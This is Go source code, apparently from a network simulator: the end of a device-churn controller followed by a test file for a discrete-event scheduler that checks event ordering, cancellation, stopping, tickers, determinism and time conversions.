func (c *Controller) evaluate(rejoin bool) {
	rng := c.sched.RNG()
	for i, dev := range c.devices {
		p := c.hosts[i].LeavingProbability(c.coeff)
		leave := rng.Float64() < p
		switch {
		case leave && dev.Online():
			c.sched.Barrier(func() { dev.SetOnline(false) })
			c.departures++
			c.notify(dev, false)
		case !leave && !dev.Online() && rejoin:
			c.sched.Barrier(func() { dev.SetOnline(true) })
			c.rejoins++
			c.notify(dev, true)
		}
	}
}

func (c *Controller) notify(dev Device, online bool) {
	at := c.sched.Now()
	if online {
		c.ctrRejoin.Inc()
		c.trace.Event(at, obs.CatChurn, "device-up", obs.KV{K: "dev", V: dev.Name()})
	} else {
		c.ctrDepart.Inc()
		c.trace.Event(at, obs.CatChurn, "device-down", obs.KV{K: "dev", V: dev.Name()})
	}
	if c.OnChange != nil {
		c.OnChange(at, dev, online)
	}
}
