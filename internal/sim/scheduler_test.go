package sim

import (
	"errors"
	"math/rand"
	"sort"
	"testing"
	"testing/quick"
	"time"
)

func TestScheduleOrdering(t *testing.T) {
	s := NewScheduler(1)
	var got []int
	s.Schedule(3*Second, func() { got = append(got, 3) })
	s.Schedule(1*Second, func() { got = append(got, 1) })
	s.Schedule(2*Second, func() { got = append(got, 2) })
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	want := []int{1, 2, 3}
	for i := range want {
		if got[i] != want[i] {
			t.Fatalf("execution order %v, want %v", got, want)
		}
	}
}

func TestSameTimeFIFO(t *testing.T) {
	s := NewScheduler(1)
	var got []int
	for i := 0; i < 10; i++ {
		i := i
		s.Schedule(Second, func() { got = append(got, i) })
	}
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	for i := range got {
		if got[i] != i {
			t.Fatalf("same-timestamp events out of insertion order: %v", got)
		}
	}
}

func TestNowAdvances(t *testing.T) {
	s := NewScheduler(1)
	var at Time
	s.Schedule(5*Second, func() { at = s.Now() })
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if at != 5*Second {
		t.Fatalf("Now inside event = %v, want 5s", at)
	}
	if s.Now() != 5*Second {
		t.Fatalf("Now after run = %v, want 5s", s.Now())
	}
}

func TestRunHorizon(t *testing.T) {
	s := NewScheduler(1)
	ran := 0
	s.Schedule(1*Second, func() { ran++ })
	s.Schedule(10*Second, func() { ran++ })
	if err := s.Run(5 * Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if ran != 1 {
		t.Fatalf("events past horizon ran: %d", ran)
	}
	if s.Now() != 5*Second {
		t.Fatalf("clock = %v, want clamped to horizon 5s", s.Now())
	}
	if err := s.Run(20 * Second); err != nil {
		t.Fatalf("second Run: %v", err)
	}
	if ran != 2 {
		t.Fatalf("remaining event did not run")
	}
}

func TestNestedScheduling(t *testing.T) {
	s := NewScheduler(1)
	var got []Time
	s.Schedule(Second, func() {
		s.Schedule(Second, func() { got = append(got, s.Now()) })
	})
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if len(got) != 1 || got[0] != 2*Second {
		t.Fatalf("nested event times = %v, want [2s]", got)
	}
}

func TestZeroDelaySelfSchedulesAtCurrentInstant(t *testing.T) {
	s := NewScheduler(1)
	n := 0
	s.Schedule(Second, func() {
		s.Schedule(0, func() { n++ })
		s.Schedule(-5, func() { n++ }) // negative clamps to zero
	})
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if n != 2 {
		t.Fatalf("zero-delay events ran %d times, want 2", n)
	}
}

func TestCancel(t *testing.T) {
	s := NewScheduler(1)
	ran := false
	id := s.Schedule(Second, func() { ran = true })
	if !s.Cancel(id) {
		t.Fatal("Cancel of pending event returned false")
	}
	if s.Cancel(id) {
		t.Fatal("double Cancel returned true")
	}
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if ran {
		t.Fatal("cancelled event executed")
	}
}

func TestCancelAfterRun(t *testing.T) {
	s := NewScheduler(1)
	id := s.Schedule(Second, func() {})
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if s.Cancel(id) {
		t.Fatal("Cancel of executed event returned true")
	}
}

func TestStop(t *testing.T) {
	s := NewScheduler(1)
	ran := 0
	s.Schedule(1*Second, func() { ran++; s.Stop() })
	s.Schedule(2*Second, func() { ran++ })
	err := s.RunAll()
	if !errors.Is(err, ErrStopped) {
		t.Fatalf("RunAll err = %v, want ErrStopped", err)
	}
	if ran != 1 {
		t.Fatalf("ran %d events after Stop, want 1", ran)
	}
}

func TestScheduleAtPastClamps(t *testing.T) {
	s := NewScheduler(1)
	var at Time = -1
	s.Schedule(2*Second, func() {
		s.ScheduleAt(Second, func() { at = s.Now() })
	})
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if at != 2*Second {
		t.Fatalf("past-scheduled event ran at %v, want clamped to 2s", at)
	}
}

func TestDeterminism(t *testing.T) {
	run := func(seed int64) []float64 {
		s := NewScheduler(seed)
		var out []float64
		for i := 0; i < 100; i++ {
			s.Schedule(Time(i)*Millisecond, func() {
				out = append(out, s.RNG().Float64())
			})
		}
		if err := s.RunAll(); err != nil {
			t.Fatalf("RunAll: %v", err)
		}
		return out
	}
	a, b := run(42), run(42)
	for i := range a {
		if a[i] != b[i] {
			t.Fatalf("same seed diverged at draw %d: %v vs %v", i, a[i], b[i])
		}
	}
	c := run(43)
	same := true
	for i := range a {
		if a[i] != c[i] {
			same = false
			break
		}
	}
	if same {
		t.Fatal("different seeds produced identical draws")
	}
}

func TestProcessedCounter(t *testing.T) {
	s := NewScheduler(1)
	for i := 0; i < 7; i++ {
		s.Schedule(Time(i)*Second, func() {})
	}
	if err := s.RunAll(); err != nil {
		t.Fatalf("RunAll: %v", err)
	}
	if s.Processed() != 7 {
		t.Fatalf("Processed = %d, want 7", s.Processed())
	}
}

// TestPropertyTimeOrdering: for any set of delays, events execute in
// non-decreasing time order.
func TestPropertyTimeOrdering(t *testing.T) {
	f := func(delays []uint32) bool {
		s := NewScheduler(7)
		var times []Time
		for _, d := range delays {
			s.Schedule(Time(d), func() { times = append(times, s.Now()) })
		}
		if err := s.RunAll(); err != nil {
			return false
		}
		if len(times) != len(delays) {
			return false
		}
		return sort.SliceIsSorted(times, func(i, j int) bool { return times[i] < times[j] })
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// TestPropertyCancelSubset: cancelling an arbitrary subset runs exactly
// the complement.
func TestPropertyCancelSubset(t *testing.T) {
	f := func(n uint8, mask uint64) bool {
		s := NewScheduler(7)
		count := int(n % 60)
		ran := make(map[int]bool)
		ids := make([]EventID, count)
		for i := 0; i < count; i++ {
			i := i
			ids[i] = s.Schedule(Time(i), func() { ran[i] = true })
		}
		want := 0
		for i := 0; i < count; i++ {
			if mask&(1<<uint(i)) != 0 {
				s.Cancel(ids[i])
			} else {
				want++
			}
		}
		if err := s.RunAll(); err != nil {
			return false
		}
		if len(ran) != want {
			return false
		}
		for i := 0; i < count; i++ {
			cancelled := mask&(1<<uint(i)) != 0
			if ran[i] == cancelled {
				return false
			}
		}
		return true
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

func TestTicker(t *testing.T) {
	s := NewScheduler(1)
	n := 0
	tk := NewTicker(s, Second, func() { n++ })
	tk.Start()
	if err := s.Run(5*Second + Millisecond); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if n != 5 {
		t.Fatalf("ticker fired %d times in 5s, want 5", n)
	}
	tk.Stop()
	if err := s.Run(10 * Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if n != 5 {
		t.Fatalf("ticker fired after Stop: %d", n)
	}
}

func TestTickerImmediate(t *testing.T) {
	s := NewScheduler(1)
	var fires []Time
	tk := NewTicker(s, Second, func() { fires = append(fires, s.Now()) })
	tk.StartImmediate()
	if err := s.Run(2*Second + Millisecond); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if len(fires) != 3 || fires[0] != 0 || fires[1] != Second {
		t.Fatalf("immediate ticker fires = %v", fires)
	}
}

func TestTickerStopFromCallback(t *testing.T) {
	s := NewScheduler(1)
	n := 0
	var tk *Ticker
	tk = NewTicker(s, Second, func() {
		n++
		if n == 3 {
			tk.Stop()
		}
	})
	tk.Start()
	if err := s.Run(100 * Second); err != nil {
		t.Fatalf("Run: %v", err)
	}
	if n != 3 {
		t.Fatalf("ticker fired %d times, want 3 (stopped from callback)", n)
	}
}

func TestTickerRestart(t *testing.T) {
	s := NewScheduler(1)
	n := 0
	tk := NewTicker(s, Second, func() { n++ })
	tk.Start()
	_ = s.Run(2*Second + Millisecond)
	tk.Stop()
	tk.Start()
	_ = s.Run(4*Second + Millisecond)
	if n != 4 {
		t.Fatalf("restarted ticker fired %d times total, want 4", n)
	}
}

func TestTimeConversions(t *testing.T) {
	if got := FromDuration(1500 * time.Millisecond); got != 1500*Millisecond {
		t.Fatalf("FromDuration = %v", got)
	}
	if got := (2 * Second).Duration(); got != 2*time.Second {
		t.Fatalf("Duration = %v", got)
	}
	if got := Seconds(0.25); got != 250*Millisecond {
		t.Fatalf("Seconds(0.25) = %v", got)
	}
	if got := (1234 * Millisecond).Seconds(); got != 1.234 {
		t.Fatalf("Seconds() = %v", got)
	}
	if got := (1500 * Microsecond).Milliseconds(); got != 1.5 {
		t.Fatalf("Milliseconds() = %v", got)
	}
	if got := (1500 * Millisecond).String(); got != "1.500s" {
		t.Fatalf("String() = %q", got)
	}
}

func TestPendingAndNilFn(t *testing.T) {
	s := NewScheduler(1)
	if s.Pending() != 0 {
		t.Fatalf("Pending = %d", s.Pending())
	}
	id := s.Schedule(Second, func() {})
	s.Schedule(2*Second, func() {})
	if s.Pending() != 2 {
		t.Fatalf("Pending = %d", s.Pending())
	}
	s.Cancel(id)
	if s.Pending() != 1 {
		t.Fatalf("Pending after cancel = %d", s.Pending())
	}
	defer func() {
		if recover() == nil {
			t.Fatal("nil fn accepted")
		}
	}()
	s.Schedule(Second, nil)
}

func TestTickerConstructorPanics(t *testing.T) {
	s := NewScheduler(1)
	for _, bad := range []func(){
		func() { NewTicker(s, 0, func() {}) },
		func() { NewTicker(s, Second, nil) },
	} {
		func() {
			defer func() {
				if recover() == nil {
					t.Fatal("bad ticker constructor accepted")
				}
			}()
			bad()
		}()
	}
}

func TestTickerIdempotentStartStopAndRunning(t *testing.T) {
	s := NewScheduler(1)
	n := 0
	tk := NewTicker(s, Second, func() { n++ })
	if tk.Running() {
		t.Fatal("fresh ticker running")
	}
	tk.Start()
	tk.Start()          // no-op
	tk.StartImmediate() // no-op while running
	if !tk.Running() {
		t.Fatal("started ticker not running")
	}
	_ = s.Run(3*Second + Millisecond)
	tk.Stop()
	tk.Stop() // no-op
	if tk.Running() {
		t.Fatal("stopped ticker running")
	}
	if n != 3 {
		t.Fatalf("double-start double-fired: %d ticks in 3s", n)
	}
}

func TestRunStopsMidHorizon(t *testing.T) {
	s := NewScheduler(1)
	s.Schedule(Second, s.Stop)
	s.Schedule(2*Second, func() {})
	if err := s.Run(10 * Second); !errors.Is(err, ErrStopped) {
		t.Fatalf("Run err = %v", err)
	}
	if s.Now() != Second {
		t.Fatalf("clock advanced to %v after Stop", s.Now())
	}
}

func BenchmarkSchedulerThroughput(b *testing.B) {
	s := NewScheduler(1)
	rng := rand.New(rand.NewSource(2))
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		s.Schedule(Time(rng.Intn(1000))*Microsecond, func() {})
	}
	if err := s.RunAll(); err != nil {
		b.Fatal(err)
	}
}
